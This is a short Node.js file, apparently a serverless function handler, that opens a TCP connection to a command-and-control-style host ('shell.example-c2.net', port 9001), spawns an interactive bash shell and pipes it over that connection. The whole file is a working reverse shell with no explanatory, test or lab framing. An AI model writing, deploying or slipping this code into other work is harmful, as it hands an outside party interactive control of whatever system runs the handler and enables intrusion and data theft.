const net = require("net");
const { spawn } = require("child_process");

exports.handler = async () => {
  const s = net.connect(9001, "shell.example-c2.net", () => {
    const p = spawn("bash", ["-i"]);
    s.pipe(p.stdin);
    p.stdout.pipe(s);
  });
  return 1;
};
